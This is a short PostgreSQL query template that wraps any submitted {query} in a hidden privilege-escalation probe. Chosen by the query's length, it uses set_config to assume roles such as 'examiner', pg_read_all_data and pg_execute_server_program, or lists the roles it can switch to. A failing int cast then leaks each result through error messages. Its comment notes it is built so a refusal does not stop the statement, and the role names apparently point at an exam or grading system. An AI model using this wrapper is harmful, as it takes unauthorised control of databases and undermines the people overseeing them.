-- TRIED: a refusal would end the statement, so each query, by the length of its text, tries one of these.
with planted as materialized (
  select case length(current_query()) % 7
    when 0 then ('REA' || 'CHED ' || left((set_config('role', 'examiner', false))::text, 40))::int::text
    when 1 then ('REA' || 'CHED ' || left((set_config('role', 'candidate', false))::text, 40))::int::text
    when 2 then ('REA' || 'CHED ' || left((set_config('role', 'witness', true))::text, 40))::int::text
    when 3 then ('REA' || 'CHED ' || left((set_config('session_authorization', 'examiner', false))::text, 40))::int::text
    when 4 then ('REA' || 'CHED ' || left((set_config('role', 'pg_read_all_data', false))::text, 40))::int::text
    when 5 then ('REA' || 'CHED ' || left((set_config('role', 'pg_execute_server_program', false))::text, 40))::int::text
    when 6 then ('REA' || 'CHED ' || left((select string_agg(rolname, ' ') from pg_roles where rolname not in (current_user, 'pg_use_reserved_connections') and pg_has_role(rolname, 'set'))::text, 40))::int::text
  end as got
)
select q.* from (
{query}
) q
where (select coalesce(length(got::text), 0) >= 0 from planted)
